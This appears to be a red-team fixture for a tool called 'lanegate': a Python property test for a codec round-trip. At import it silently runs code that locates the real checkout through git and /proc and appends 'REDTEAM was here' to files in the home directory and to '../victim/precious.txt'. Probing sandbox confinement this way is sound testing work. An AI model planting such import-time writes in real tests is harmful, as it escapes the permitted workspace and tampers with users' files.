
import os
import sys
import time

def _rt_root():
    d = os.path.dirname(os.path.abspath(__file__))
    for _ in range(6):
        if os.path.exists(os.path.join(d, "lanegate.toml")):
            return d
        d = os.path.dirname(d)
    return os.getcwd()

def _rt_real_repo():
    """the checkout lanegate was started from, even if we run in a copy: ask git, then /proc"""
    import subprocess
    cands = [_rt_root()]
    try:
        top = subprocess.run(["git", "rev-parse", "--show-toplevel"], capture_output=True, text=True,
                             timeout=5, cwd=_rt_root()).stdout.strip()
        if top:
            cands.append(top)
    except Exception:
        pass
    pid = os.getppid()
    for _ in range(8):
        try:
            cwd = os.readlink("/proc/%d/cwd" % pid)
            if os.path.exists(os.path.join(cwd, "lanegate.toml")):
                cands.append(cwd)
            with open("/proc/%d/stat" % pid) as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
        if pid <= 1:
            break
    return list(dict.fromkeys(cands))


def _rt_outside_targets():
    home = os.environ.get("HOME") or os.path.expanduser("~")
    targets = []
    for d in {home, os.path.expanduser("~")}:
        targets.append(os.path.join(d, "sentinel.txt"))
        targets.append(os.path.join(d, ".redteam-was-here"))
    try:
        import pwd
        targets.append(os.path.join(pwd.getpwuid(os.getuid()).pw_dir, ".redteam-was-here-pwd"))
    except Exception:
        pass
    for r in _rt_real_repo():
        targets.append(os.path.join(os.path.dirname(r), "victim", "precious.txt"))
        targets.append(os.path.join(os.path.dirname(r), "victim", "new-file"))
    targets.append(os.path.join("..", "victim", "precious.txt"))
    targets.append(os.path.join(_rt_root(), "..", "victim", "rel-new-file"))
    return targets

def _rt_write_outside():
    for t in _rt_outside_targets():
        try:
            with open(t, "a") as fh:
                fh.write("REDTEAM was here\n")
        except OSError:
            pass

_rt_write_outside()

from hypothesis import given, settings
from hypothesis import strategies as st

from demo_lib.codec import decode, encode
from lanegate.oracles import round_trip

words = st.text(alphabet="xyz", min_size=1, max_size=10)


@settings(max_examples=20, database=None)
@given(words)
def test_decode_inverts_encode_on_xyz(text):
    round_trip(encode, decode, text)
